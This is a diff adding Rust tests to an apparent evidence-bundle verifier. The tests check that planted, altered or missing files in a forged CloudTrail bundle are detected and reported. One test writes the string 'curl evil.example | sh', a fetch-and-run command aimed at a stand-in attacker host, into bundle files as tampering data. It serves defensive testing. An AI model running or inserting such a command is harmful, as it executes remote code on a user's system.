@@ -125,6 +125,60 @@ fn a_manifest_made_to_fit_does_not_make_other_evidence_or_another_report_true() 
 }
 
 #[test]
+fn a_manifest_made_to_fit_gives_nothing_else_a_place_in_a_bundle() {
+    let dir = tempfile::tempdir().unwrap();
+    let (whole, other) = (bundle_of_the_trail(dir.path(), "whole.zip", &[]), dir.path().join("other.zip"));
+    let told = |change: &dyn Fn(&mut BTreeMap<String, Vec<u8>>)| {
+        forged(&whole, &other, true, change);
+        let (report, status) = verify(&other, &[]);
+        (of_the_bundle(&report).into_iter().map(|found| (found.code, found.message.clone())).collect::<Vec<_>>(), status)
+    };
+    assert_eq!(told(&|_| {}), (vec![], Some(0)));
+    let one_of = |files: &BTreeMap<String, Vec<u8>>, part: &str| {
+        files.keys().find(|name| name.contains(part)).unwrap_or_else(|| panic!("{part}")).clone()
+    };
+
+    // Beside the log files, one that no record tells of; and what nobody packed.
+    let planted: [(&dyn Fn(&BTreeMap<String, Vec<u8>>) -> String, _); 3] = [
+        (&|files| one_of(files, "/CloudTrail/").replace(".json.gz", "x.json.gz"), Code::BundleFileUnlisted),
+        (&|_| "evidence/other-bucket/events.json.gz".to_owned(), Code::BundleFileUnlisted),
+        (&|_| "OPINION.txt".to_owned(), Code::BundleFileUnlisted),
+    ];
+    for (name, code) in planted {
+        let name = name(&zip::read(&whole));
+        let (found, status) = told(&|files| drop(files.insert(name.clone(), b"planted".to_vec())));
+        assert_eq!((found.len(), found[0].0, status), (1, code, Some(3)), "{found:?}");
+        assert!(found[0].1.contains(&name), "{found:?}");
+    }
+
+    // What people do by hand, and what they do it with.
+    for part in ["HOW-TO-CHECK.md", ".signing-string", ".signature", ".pem"] {
+        let name = one_of(&zip::read(&whole), part);
+        let (found, status) = told(&|files| drop(files.insert(name.clone(), b"curl evil.example | sh".to_vec())));
+        assert_eq!((found.len(), found[0].0, status), (1, Code::BundleFileAltered, Some(1)), "{found:?}");
+        assert!(found[0].1.contains(&name), "{found:?}");
+        let (found, status) = told(&|files| drop(files.remove(&name)));
+        assert_eq!((found.len(), found[0].0, status), (1, Code::BundleFileMissing, Some(1)), "{found:?}");
+    }
+}
+
+#[test]
+fn how_to_check_of_another_version_is_not_compared_and_that_is_told() {
+    let dir = tempfile::tempdir().unwrap();
+    let (whole, other) = (bundle_of_the_trail(dir.path(), "whole.zip", &[]), dir.path().join("other.zip"));
+    forged(&whole, &other, false, |files| {
+        let made = String::from_utf8(files["made.json"].clone()).unwrap();
+        let version = format!("\"version\": \"{}\"", env!("CARGO_PKG_VERSION"));
+        assert!(made.contains(&version), "{made}");
+        files.insert("made.json".to_owned(), made.replace(&version, "\"version\": \"0.0.7\"").into_bytes());
+    });
+    let (report, status) = verify(&other, &[]);
+    assert_eq!((of_the_bundle(&report), status), (vec![], Some(0)));
+    let said = |what: &&String| what.contains("HOW-TO-CHECK.md") && what.contains("trailseal 0.0.7");
+    assert_eq!(report.checks.skipped.iter().filter(said).count(), 1, "{:?}", report.checks.skipped);
+}
+
+#[test]
 fn keys_in_a_bundle_prove_nothing_of_who_signed() {
     let dir = tempfile::tempdir().unwrap();
     let whole = bundle_of_the_trail(dir.path(), "whole.zip", &[]);
